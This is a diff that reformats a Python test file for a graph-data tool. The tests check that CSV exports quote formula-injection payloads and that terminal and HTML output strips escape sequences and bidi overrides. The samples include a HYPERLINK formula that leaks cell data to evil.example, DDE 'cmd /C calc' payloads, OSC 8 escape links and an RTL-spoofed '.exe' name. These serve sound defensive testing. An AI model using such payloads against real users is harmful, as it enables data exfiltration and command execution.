@@ -45,8 +45,14 @@ ACTOR = "https://w3id.org/ecograph/data/actor/"
 MARKUP = "Zeta [/] [bold red]loud[/bold red] [link=http://evil.example]x[/link]"
 ESCAPES = "Eta \x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\ \x1b[2J\x9b31m\x07"
 RLO = "Theta \u202egpj.exe"
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 NAMES = [MARKUP, ESCAPES, RLO, *FORMULAS]
 TERMINAL_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 
@@ -55,9 +61,11 @@ runner = CliRunner()
 
 def hostile_trig() -> str:
     """Actors named ``NAMES`` in Nantes, each tied to a01, plus a grant of -3.5 (a decimal)."""
-    lines = ["@prefix eg: <https://w3id.org/ecograph/ontology#> .",
-             "@prefix skos: <http://www.w3.org/2004/02/skos/core#> .",
-             "<https://w3id.org/ecograph/data/graph/source-h> {"]
+    lines = [
+        "@prefix eg: <https://w3id.org/ecograph/ontology#> .",
+        "@prefix skos: <http://www.w3.org/2004/02/skos/core#> .",
+        "<https://w3id.org/ecograph/data/graph/source-h> {",
+    ]
     for i, name in enumerate(NAMES):
         lines += [
             f"<{ACTOR}h{i}> a eg:Actor ; skos:prefLabel {ox.Literal(name, language='fr')} ;",
@@ -68,11 +76,15 @@ def hostile_trig() -> str:
             f"<https://w3id.org/ecograph/data/partnership/h{i}> a eg:Partnership ;",
             "  eg:partnershipType <https://w3id.org/ecograph/id/partnership-type/coConstruction> ;",
             f"  eg:partner <{ACTOR}h{i}> , <{ACTOR}a01> ;",
-            "  eg:domain <https://w3id.org/ecograph/id/domain/housing> ."]
-    lines += ["<https://w3id.org/ecograph/data/partnership/hx> a eg:Partnership ;",
-              "  eg:partnershipType <https://w3id.org/ecograph/id/partnership-type/funding> ;",
-              f"  eg:partner <{ACTOR}h0> , <{ACTOR}a01> ; eg:funder <{ACTOR}a01> ;",
-              f"  eg:beneficiary <{ACTOR}h0> ; eg:amount -3.5 .", "}"]
+            "  eg:domain <https://w3id.org/ecograph/id/domain/housing> .",
+        ]
+    lines += [
+        "<https://w3id.org/ecograph/data/partnership/hx> a eg:Partnership ;",
+        "  eg:partnershipType <https://w3id.org/ecograph/id/partnership-type/funding> ;",
+        f"  eg:partner <{ACTOR}h0> , <{ACTOR}a01> ; eg:funder <{ACTOR}a01> ;",
+        f"  eg:beneficiary <{ACTOR}h0> ; eg:amount -3.5 .",
+        "}",
+    ]
     return "\n".join(lines)
 
 
@@ -92,9 +104,10 @@ def names_query(tmp_path_factory: pytest.TempPathFactory) -> Path:
         "PREFIX eg: <https://w3id.org/ecograph/ontology#>\n"
         "PREFIX skos: <http://www.w3.org/2004/02/skos/core#>\n"
         "SELECT ?name ?amount WHERE {\n"
-        f"  {{ ?a skos:prefLabel ?name FILTER(STRSTARTS(STR(?a), \"{ACTOR}h\")) }}\n"
+        f'  {{ ?a skos:prefLabel ?name FILTER(STRSTARTS(STR(?a), "{ACTOR}h")) }}\n'
         "  UNION { ?p eg:amount ?amount FILTER(?amount < 0) }\n} ORDER BY ?name\n",
-        encoding="utf-8")
+        encoding="utf-8",
+    )
     return path
 
 
@@ -136,8 +149,9 @@ def test_formula_cells_get_a_quote(value: str) -> None:
     assert spreadsheet_cell(value) == "'" + value
 
 
-@pytest.mark.parametrize("value", ["-3.5", "+1e5", "-.5", "12", "0.25", -0.25, 3, None,
-                                   "Alpha", "", "'=already", " =x"])
+@pytest.mark.parametrize(
+    "value", ["-3.5", "+1e5", "-.5", "12", "0.25", -0.25, 3, None, "Alpha", "", "'=already", " =x"]
+)
 def test_numbers_and_plain_text_stay(value: object) -> None:
     assert spreadsheet_cell(value) == value
 
@@ -148,8 +162,7 @@ def test_almost_numbers_are_escaped(value: str) -> None:
 
 
 # --------------------------------------------------------------------------- terminal (item 9)
-def test_query_table_prints_names_as_text(workspace: Path, names_query: Path, wide: None
-                                          ) -> None:
+def test_query_table_prints_names_as_text(workspace: Path, names_query: Path, wide: None) -> None:
     result = _run("--store", str(workspace), "query", str(names_query))
     assert result.exit_code == 0, result.output
     out = result.stdout
@@ -163,10 +176,13 @@ def test_import_refusal_prints_cells_as_text(tmp_path: Path, wide: None) -> None
     bad.write_text(
         "nomAttribuant;idAttribuant;dateConvention;referenceDecision;nomBeneficiaire;"
         "idBeneficiaire;objet;montant;nature\n"
-        "VILLE DE NANTES;21440109300015;01/04/2019;D3;ASSO \u202eB;\"[/]4430618\x1b[2J\x1b]8;;"
-        "http://evil.example/\x07\";Aide;100;aide en numéraire\n", encoding="utf-8")
-    result = _run("--store", str(tmp_path / "ws"), "import", str(bad),
-                  "--rejects", str(tmp_path / "r.csv"))
+        'VILLE DE NANTES;21440109300015;01/04/2019;D3;ASSO \u202eB;"[/]4430618\x1b[2J\x1b]8;;'
+        'http://evil.example/\x07";Aide;100;aide en numéraire\n',
+        encoding="utf-8",
+    )
+    result = _run(
+        "--store", str(tmp_path / "ws"), "import", str(bad), "--rejects", str(tmp_path / "r.csv")
+    )
     assert result.exit_code == 1, result.output
     assert result.exception is None or isinstance(result.exception, SystemExit)
     err = result.stderr
@@ -194,7 +210,7 @@ def test_map_names_lose_bidi_overrides_and_controls(workspace: Path) -> None:
         assert not TERMINAL_CONTROLS.search(str(node["label"]) + str(node["title"]))
     assert "\u202e" not in page and "\x1b" not in page
     # Facet labels sit in isolates, even inside <option>, which cannot hold a <bdi>.
-    assert re.search(f"<option value=\"0\">{FSI}[^<{PDI}]+{PDI} \\(\\d+\\)</option>", page)
+    assert re.search(f'<option value="0">{FSI}[^<{PDI}]+{PDI} \\(\\d+\\)</option>', page)
 
 
 def test_report_cells_are_isolated(workspace: Path) -> None:
@@ -216,8 +232,11 @@ def test_report_charts_lose_bidi_overrides() -> None:
 
 # --------------------------------------------------------------------------- spreadsheets (10)
 def _csv_cells(text: str, delimiter: str = ",") -> list[str]:
-    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
-            for cell in row]
+    return [
+        cell
+        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
+        for cell in row
+    ]
 
 
 def _read(path: Path, encoding: str = "utf-8") -> str:
@@ -225,16 +244,16 @@ def _read(path: Path, encoding: str = "utf-8") -> str:
     return path.read_bytes().decode(encoding)
 
 
-def test_query_csv_escapes_formulas_and_keeps_numbers(workspace: Path, names_query: Path
-                                                      ) -> None:
+def test_query_csv_escapes_formulas_and_keeps_numbers(workspace: Path, names_query: Path) -> None:
     result = _run("--store", str(workspace), "query", str(names_query), "-f", "csv")
     assert result.exit_code == 0, result.output
     cells = _csv_cells(result.stdout)
     for formula in FORMULAS:
         assert "'" + formula in cells and formula not in cells
     assert "-3.5" in cells  # an xsd:decimal: a number to a spreadsheet, not a formula
-    raw = _run("--store", str(workspace), "query", str(names_query), "-f", "csv",
-               "--no-formula-escape")
+    raw = _run(
+        "--store", str(workspace), "query", str(names_query), "-f", "csv", "--no-formula-escape"
+    )
     assert set(FORMULAS) <= set(_csv_cells(raw.stdout))
 
 
@@ -257,8 +276,7 @@ def test_machine_formats_show_escapes_on_a_terminal_and_keep_data_in_files() -> 
     assert for_stream(text, io.StringIO()) == text
 
 
-def test_query_tsv_to_a_pipe_keeps_every_character(workspace: Path, names_query: Path
-                                                   ) -> None:
+def test_query_tsv_to_a_pipe_keeps_every_character(workspace: Path, names_query: Path) -> None:
     result = _run("--store", str(workspace), "query", str(names_query), "-f", "tsv")
     assert result.exit_code == 0, result.output
     assert '"Theta \u202egpj.exe"@fr' in result.stdout  # CliRunner's stdout is a pipe
@@ -289,24 +307,26 @@ def test_network_csv_without_escaping(tmp_path: Path) -> None:
     G = nx.Graph()
     G.add_node("a", name="=1+1", score=-0.5)
     written = write_graph(G, tmp_path / "g.csv", "csv", formula_escape=False)
-    assert _csv_cells(_read(written[0])) == ["id", "name", "score", "a",
-                                                                  "=1+1", "-0.5"]
+    assert _csv_cells(_read(written[0])) == ["id", "name", "score", "a", "=1+1", "-0.5"]
     escaped = write_graph(G, tmp_path / "e.csv", "csv")
     assert "'=1+1" in _csv_cells(_read(escaped[0]))
 
 
 def test_rejects_csv_escapes_formulas(tmp_path: Path) -> None:
     rejects = [Reject(3, "idBeneficiaire", "=1+1", "bad", ["@SUM(1)", "-2+3", "-3.5", "ok"])]
-    path = write_rejects(tmp_path / "in.csv", rejects, ["a", "b", "c", "=d"],
-                         tmp_path / "r.csv")
+    path = write_rejects(tmp_path / "in.csv", rejects, ["a", "b", "c", "=d"], tmp_path / "r.csv")
     cells = _csv_cells(_read(path, "utf-8-sig"), ";")
     assert cells[8] == "'=d"  # a header from the file is a cell too
     assert {"'=1+1", "'@SUM(1)", "'-2+3", "-3.5", "ok", "'=d"} <= set(cells)
     assert not {"=1+1", "@SUM(1)", "-2+3", "=d"} & set(cells)
-    raw = write_rejects(tmp_path / "in.csv", rejects, ["a", "b", "c", "=d"], tmp_path / "s.csv",
-                        formula_escape=False)
-    assert {"=1+1", "@SUM(1)", "-2+3", "=d"} <= set(_csv_cells(
-        _read(raw, "utf-8-sig"), ";"))
+    raw = write_rejects(
+        tmp_path / "in.csv",
+        rejects,
+        ["a", "b", "c", "=d"],
+        tmp_path / "s.csv",
+        formula_escape=False,
+    )
+    assert {"=1+1", "@SUM(1)", "-2+3", "=d"} <= set(_csv_cells(_read(raw, "utf-8-sig"), ";"))
 
 
 def test_import_writes_escaped_rejects(tmp_path: Path) -> None:
@@ -315,25 +335,37 @@ def test_import_writes_escaped_rejects(tmp_path: Path) -> None:
         "nomAttribuant;idAttribuant;dateConvention;referenceDecision;nomBeneficiaire;"
         "idBeneficiaire;objet;montant;nature\n"
         'VILLE DE NANTES;21440109300015;01/04/2019;D3;"=HYPERLINK(""http://evil.example"",'
-        '""x"")";4430618;@SUM(1);-2+3;aide en numéraire\n', encoding="utf-8")
-    result = _run("--store", str(tmp_path / "ws"), "import", str(bad),
-                  "--rejects", str(tmp_path / "r.csv"))
+        '""x"")";4430618;@SUM(1);-2+3;aide en numéraire\n',
+        encoding="utf-8",
+    )
+    result = _run(
+        "--store", str(tmp_path / "ws"), "import", str(bad), "--rejects", str(tmp_path / "r.csv")
+    )
     assert result.exit_code == 1, result.output
     cells = _csv_cells(_read(tmp_path / "r.csv", "utf-8-sig"), ";")
-    assert {"'=HYPERLINK(\"http://evil.example\",\"x\")", "'@SUM(1)", "'-2+3"} <= set(cells)
-    result = _run("--store", str(tmp_path / "ws"), "import", str(bad),
-                  "--rejects", str(tmp_path / "raw.csv"), "--no-formula-escape")
+    assert {'\'=HYPERLINK("http://evil.example","x")', "'@SUM(1)", "'-2+3"} <= set(cells)
+    result = _run(
+        "--store",
+        str(tmp_path / "ws"),
+        "import",
+        str(bad),
+        "--rejects",
+        str(tmp_path / "raw.csv"),
+        "--no-formula-escape",
+    )
     assert result.exit_code == 1, result.output
     cells = _csv_cells(_read(tmp_path / "raw.csv", "utf-8-sig"), ";")
-    assert {"=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1)", "-2+3"} <= set(cells)
+    assert {'=HYPERLINK("http://evil.example","x")', "@SUM(1)", "-2+3"} <= set(cells)
 
 
 def test_metrics_csv_escapes_formulas(workspace: Path, tmp_path: Path) -> None:
-    result = _run("--store", str(workspace), "metrics", "-f", "csv", "--out", str(tmp_path),
-                  "--no-write")
+    result = _run(
+        "--store", str(workspace), "metrics", "-f", "csv", "--out", str(tmp_path), "--no-write"
+    )
     assert result.exit_code == 0, result.output
     cells = _csv_cells(_read(tmp_path / "actors.csv"))
     for formula in FORMULAS:
         assert "'" + formula in cells and formula not in cells
-    assert any(re.fullmatch(r"-0\.\d+", cell) for cell in _csv_cells(_read(tmp_path /
-                                                                            "sectors.csv")))
+    assert any(
+        re.fullmatch(r"-0\.\d+", cell) for cell in _csv_cells(_read(tmp_path / "sectors.csv"))
+    )
